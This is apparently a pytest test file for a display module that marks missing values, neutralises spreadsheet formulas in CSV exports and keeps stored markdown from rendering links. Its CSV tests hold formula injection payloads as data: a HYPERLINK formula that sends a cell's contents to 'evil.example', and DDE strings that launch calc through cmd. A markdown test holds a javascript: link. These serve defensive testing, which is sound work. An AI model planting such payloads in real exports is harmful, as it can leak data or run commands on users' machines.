"""kb.display: one look for missing values, CSV cells a spreadsheet cannot run, stored text that stays text."""

import csv
import io
import math

import pandas as pd
import pytest

from kb import display


@pytest.mark.parametrize("value, missing", [
    (None, True), (float("nan"), True), (math.nan, True), (pd.NA, True), (pd.NaT, True), ("", True), ("  ", True),
    (0, False), (0.0, False), ("0", False), ("nan", False), ("None", False), ([1], False), (False, False),
])
def test_is_missing(value, missing):
    assert display.is_missing(value) is missing


def test_cards_say_the_words_and_labels_leave_the_part_out():
    assert display.words(float("nan"), "{:g}%") == "not reported or not verified"
    assert display.words(17.3, "{:g}%") == "17.3%"
    assert display.join("Gaebe 2022", float("nan"), None, "", "OS") == "Gaebe 2022 · OS"
    assert "—" in display.MISSING_LEGEND and "not reported or not verified" in display.MISSING_LEGEND


def test_for_table_keeps_numbers_numeric_and_blanks_missing():
    frame = pd.DataFrame({"n": [1.5, float("nan")], "text": ["a", "  "], "other": ["b", float("nan")]})
    shown = display.for_table(frame)
    assert pd.api.types.is_float_dtype(shown["n"])
    assert shown["text"].tolist() == ["a", None]
    assert shown["other"].iloc[0] == "b" and pd.isna(shown["other"].iloc[1])   # Arrow sends NaN text as null
    unchanged = pd.DataFrame({"a": ["x", None]})
    assert display.for_table(unchanged) is unchanged  # nothing blank: no copy


# ------------------------------------------------------------------------------------------------ CSV
@pytest.mark.parametrize("cell, expected", [
    # OWASP's trigger characters at the start of a cell
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    # not formulas: plain numbers as text, text with the character later, other values
    ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("a=b", "a=b"), ("p<0.001", "p<0.001"), (-3, -3), (None, None),
])
def test_neutralise_formula(cell, expected):
    assert display.neutralise_formula(cell) == expected


def test_csv_bytes_reads_back_with_formulas_inert_and_missing_cells_empty():
    frame = pd.DataFrame({"Study": ["=HYPERLINK(\"http://x\",\"y\")", "N0574", None],
                          "Rate (%)": [9.0, float("nan"), 17.3],
                          "Note": ["@cmd", "comma, \"quoted\" and\nnewline", float("nan")]})
    rows = list(csv.reader(io.StringIO(display.csv_bytes(frame).decode("utf-8"))))
    assert rows[0] == ["Study", "Rate (%)", "Note"]
    assert rows[1] == ["'=HYPERLINK(\"http://x\",\"y\")", "9.0", "'@cmd"]
    assert rows[2] == ["N0574", "", "comma, \"quoted\" and\nnewline"]
    assert rows[3] == ["", "17.3", ""]
    back = pd.read_csv(io.BytesIO(display.csv_bytes(frame)))
    assert pd.api.types.is_float_dtype(back["Rate (%)"])  # numbers stay numbers in a spreadsheet


def test_csv_bytes_has_no_nan_or_none_text():
    frame = pd.DataFrame({"a": [None, float("nan"), pd.NA], "b": pd.array([1, None, 3], dtype="Int64")})
    text = display.csv_bytes(frame).decode()
    assert "nan" not in text.lower() and "none" not in text.lower() and "<na>" not in text.lower()


# ------------------------------------------------------------------------------------------------ stored text
@pytest.mark.parametrize("stored", [
    "read at https://neurocirurgiabr.com/2016/x", "see www.example.org", "mail editor@example.org",
    "[click](javascript:alert(1))", "<a href='https://x.org'>x</a>", "_https://x.org", "(https://x.org)",
])
def test_inert_markdown_leaves_no_autolink_pattern(stored):
    """What remark-gfm would link: an http(s):// or www. address after a space, punctuation or the start, and
    name@host; after inert_markdown each is preceded by the word joiner (or escaped), so none links."""
    import re

    text = display.inert_markdown(stored)
    visible = text.replace(display.WORD_JOINER, "")
    assert visible.replace("\\", "") == stored
    for match in re.finditer(r"(?i)https?:|www\.", text):
        assert text[match.start() - 1] == display.WORD_JOINER
    assert "@" not in text or display.WORD_JOINER + "@" in text
    assert "](" not in text.replace("\\]\\(", "") and "<" not in text.replace("\\<", "")


def test_inert_markdown_keeps_directives_as_text():
    text = display.inert_markdown(":green-badge[:material/check_circle: verified]")
    assert ":green-badge[" not in text and ":material/" not in text
    assert text.replace(display.WORD_JOINER, "").replace("\\", "") == ":green-badge[:material/check_circle: verified]"
